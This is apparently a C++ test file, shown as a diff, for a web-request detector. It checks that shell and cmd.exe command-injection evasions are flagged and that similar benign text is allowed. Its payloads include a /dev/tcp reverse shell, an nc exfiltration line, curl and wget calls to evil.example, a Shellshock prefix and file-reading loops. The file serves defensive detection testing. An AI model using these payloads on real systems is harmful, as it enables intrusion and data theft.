@@ -1,0 +1,89 @@
+// Command injection by shell and cmd.exe grammar: evasions the collapser must undo and
+// benign text with the same characters.
+#include <gtest/gtest.h>
+
+#include "libs/detect/test_util.h"
+
+namespace shieldx::detect {
+namespace {
+
+using testing::Flagged;
+using testing::HasCategory;
+using testing::InspectQueryValue;
+
+class ShellEvasion : public ::testing::TestWithParam<const char*> {};
+TEST_P(ShellEvasion, IsBlocked) {
+  Verdict v = InspectQueryValue(GetParam());
+  EXPECT_TRUE(Flagged(v)) << GetParam() << " -> " << v.explanation;
+}
+INSTANTIATE_TEST_SUITE_P(
+    Payloads, ShellEvasion,
+    ::testing::Values(
+        // Empty substitutions and unset variables glued to a word.
+        "$(whoami$())", "x; una$()me -a", "a; bash$FOO -c id", "|$nothing curl evil.example/x",
+        // Glob classes in binary paths.
+        "/usr/bin/[w]hoami", "/usr/sbin/[i]fconfig -a",
+        // Brace expansion that builds the command.
+        "{,whoami}", "{uname,-a}", "{l,-lh}s /tmp",
+        // Quoted command names and a quote breaking out of the application's string.
+        ";'wget' http://evil.example/x", "'nohup uname -a", "\"; \"curl\" evil.example/x",
+        // Versioned interpreters, tool families, wrappers.
+        ";python3.11 -c 'import os'", ";gcc12 -o /tmp/x x.c", ";docker-compose --version",
+        "strace ifconfig", "nohup hostname -f",
+        // Subshells and /dev/tcp redirection.
+        "x=1&&(bash)0>/dev/tcp/192.0.2.1/4444",
+        // A separator opening the value, then an unknown program with a command's arguments.
+        ";frobnicate --output /tmp/x", "|sometool -rf /var/www",
+        // Recon command followed by a separator.
+        "uname;x", "whoami|nc 192.0.2.1 9",
+        // Parameter expansion operators and $[...] arithmetic.
+        "${PATH%%:*}", "${HOME#/}", "$[7*7]",
+        // alias definitions.
+        "alias ll=whoami", "x; alias -p e=env",
+        // Several chained commands, one with arguments.
+        "cd /tmp;cd x;cat y",
+        // Bare Shellshock prefix.
+        "() {"));
+
+class CmdExeGrammar : public ::testing::TestWithParam<const char*> {};
+TEST_P(CmdExeGrammar, IsBlockedAsCommandInjection) {
+  Verdict v = InspectQueryValue(GetParam());
+  EXPECT_TRUE(Flagged(v)) << GetParam() << " -> " << v.explanation;
+  EXPECT_TRUE(HasCategory(v, Category::kCmdi)) << GetParam();
+}
+INSTANTIATE_TEST_SUITE_P(
+    Statements, CmdExeGrammar,
+    ::testing::Values("IF EXIST c:\\boot.ini TYPE c:\\boot.ini", "if not exist x.txt echo gone",
+                      "IF ERRORLEVEL 1 GOTO fail", "IF CMDEXTVERSION 2 echo on",
+                      "if defined TEMP set X=1", "if a==a echo same", "IF /I x==X calc",
+                      "IF NOT x===x echo y", "if \"A B\" == \"A B\" echo same",
+                      "IF 3 GEQ 2 echo bigger", "if [x] == [x] echo same",
+                      "& FOR %%v IN (1,2) DO echo %%v",
+                      "| for /f \"tokens=1\" %i in ('ver') do echo %i",
+                      "for /l %x in (1,1,9) do ping -n 1 host", "FOR %~ IN (a)DO type x",
+                      "x & for /r c:\\ %f in (*.ini) do type %f"));
+
+class CmdiTrickyBenign : public ::testing::TestWithParam<const char*> {};
+TEST_P(CmdiTrickyBenign, IsAllowed) {
+  Verdict v = InspectQueryValue(GetParam());
+  EXPECT_FALSE(Flagged(v)) << GetParam() << " -> " << v.explanation;
+}
+INSTANTIATE_TEST_SUITE_P(
+    Text, CmdiTrickyBenign,
+    ::testing::Values(
+        // English and code with IF / FOR.
+        "if defined by the user, the value wins", "if exists then we go", "if a == b: return a",
+        "if (a==b) { run(); }", "if x == y then print(x) end",
+        "for each item in the list do nothing", "for (i in list) do_it()",
+        // Lists, regular expressions, route patterns, URLs.
+        "Python; Java; Ruby; Go", "/[a-z]{1,5}/", "^[0-9]+$", "/[slug]", "/blog/[...slug]",
+        "{date,time}", "{1,2,3}",
+        "http://askubuntu.com/questions/1/apt-get-keeps-failing-on-my-machine-help",
+        "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) Safari/534",
+        // Template placeholders and prices.
+        "Hello ${name}, your total is ${total}", "${a/b}", "costs $5 or $[sale]", "~+5 %",
+        // Prose with semicolons and pipes.
+        "cats; dogs; more pets", "time | date | place", "x; time to go"));
+
+}  // namespace
+}  // namespace shieldx::detect
